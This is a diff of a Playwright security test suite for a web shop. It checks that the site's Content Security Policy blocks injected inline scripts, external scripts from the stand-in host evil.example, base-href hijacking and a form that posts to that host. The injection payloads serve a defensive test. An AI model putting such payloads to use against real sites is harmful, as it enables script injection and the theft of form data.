@@ -1,5 +1,5 @@
 import type { Page } from '@playwright/test'
-import { expect, takeComplaints, test } from './shop-test.ts'
+import { expect, inSlice, takeComplaints, test } from './shop-test.ts'
 
 /** Serves a page with something added to it, under the headers it really has. */
 async function inject(page: Page, path: string, html: string): Promise<void> {
@@ -12,8 +12,8 @@ async function inject(page: Page, path: string, html: string): Promise<void> {
 
 const marks = (page: Page) => page.evaluate(() => Object.keys(window).filter((name) => name.startsWith('injected')))
 
-for (const path of ['/webhosting', '/order/domains']) {
-  test(`an inline script injected into ${path} does not run`, async ({ page, complaints }) => {
+for (const [index, path] of ['/order/domains', '/webhosting'].entries()) {
+  test(`an inline script injected into ${path} does not run`, inSlice(index, 1), async ({ page, complaints }) => {
     await inject(
       page,
       path,
@@ -25,46 +25,58 @@ for (const path of ['/webhosting', '/order/domains']) {
     await takeComplaints(complaints, /Executing inline (script|event handler) violates/)
   })
 
-  test(`a script of our own host injected into ${path} does not run`, async ({ page, complaints }) => {
-    await page.route('/evil.js', (route) =>
-      route.fulfill({ contentType: 'text/javascript', body: 'window.injectedFile = true' }),
-    )
-    await inject(
-      page,
-      path,
-      '<script src="/evil.js"></script><script type="module" src="/evil.js"></script><script async src="/evil.js"></script>',
-    )
-    await page.goto(path)
-    await expect(page.getByRole('main')).toBeVisible()
-    expect(await marks(page)).toEqual([])
-    await takeComplaints(complaints, /Loading the script .* violates/)
-  })
+  test(
+    `a script of our own host injected into ${path} does not run`,
+    inSlice(index, 1),
+    async ({ page, complaints }) => {
+      await page.route('/evil.js', (route) =>
+        route.fulfill({ contentType: 'text/javascript', body: 'window.injectedFile = true' }),
+      )
+      await inject(
+        page,
+        path,
+        '<script src="/evil.js"></script><script type="module" src="/evil.js"></script><script async src="/evil.js"></script>',
+      )
+      await page.goto(path)
+      await expect(page.getByRole('main')).toBeVisible()
+      expect(await marks(page)).toEqual([])
+      await takeComplaints(complaints, /Loading the script .* violates/)
+    },
+  )
 
-  test(`a script of another host injected into ${path} does not run`, async ({ page, complaints }) => {
-    await page.route('https://evil.example/**', (route) =>
-      route.fulfill({ contentType: 'text/javascript', body: 'window.injectedHost = true' }),
-    )
-    await inject(page, path, '<script src="https://evil.example/evil.js"></script>')
-    await page.goto(path)
-    expect(await marks(page)).toEqual([])
-    await takeComplaints(complaints, /Loading the script .* violates|asks another host/)
-  })
+  test(
+    `a script of another host injected into ${path} does not run`,
+    inSlice(index, 1),
+    async ({ page, complaints }) => {
+      await page.route('https://evil.example/**', (route) =>
+        route.fulfill({ contentType: 'text/javascript', body: 'window.injectedHost = true' }),
+      )
+      await inject(page, path, '<script src="https://evil.example/evil.js"></script>')
+      await page.goto(path)
+      expect(await marks(page)).toEqual([])
+      await takeComplaints(complaints, /Loading the script .* violates|asks another host/)
+    },
+  )
 
-  test(`styles, frames, pictures and forms injected into ${path} do nothing`, async ({ page, complaints }) => {
-    await inject(
-      page,
-      path,
-      '<style>body { color: rgb(1, 2, 3) }</style><iframe src="/"></iframe><img src="https://evil.example/x.png">' +
-        '<base href="https://evil.example/"><form id="stolen" action="https://evil.example/"><button>x</button></form>',
-    )
-    await page.goto(path)
-    await expect(page.locator('body')).not.toHaveCSS('color', 'rgb(1, 2, 3)')
-    expect(await page.evaluate(() => document.baseURI)).toMatch(/^http:\/\/localhost/)
-    await expect(page.frameLocator('iframe').getByRole('main')).toHaveCount(0)
-    await page.locator('#stolen button').dispatchEvent('click')
-    await takeComplaints(complaints, /Sending form data/)
-    await takeComplaints(complaints, /violates the following Content Security Policy|asks another host/)
-  })
+  test(
+    `styles, frames, pictures and forms injected into ${path} do nothing`,
+    inSlice(index, 1),
+    async ({ page, complaints }) => {
+      await inject(
+        page,
+        path,
+        '<style>body { color: rgb(1, 2, 3) }</style><iframe src="/"></iframe><img src="https://evil.example/x.png">' +
+          '<base href="https://evil.example/"><form id="stolen" action="https://evil.example/"><button>x</button></form>',
+      )
+      await page.goto(path)
+      await expect(page.locator('body')).not.toHaveCSS('color', 'rgb(1, 2, 3)')
+      expect(await page.evaluate(() => document.baseURI)).toMatch(/^http:\/\/localhost/)
+      await expect(page.frameLocator('iframe').getByRole('main')).toHaveCount(0)
+      await page.locator('#stolen button').dispatchEvent('click')
+      await takeComplaints(complaints, /Sending form data/)
+      await takeComplaints(complaints, /violates the following Content Security Policy|asks another host/)
+    },
+  )
 }
 
 test('no page can be framed', async ({ page, complaints }) => {
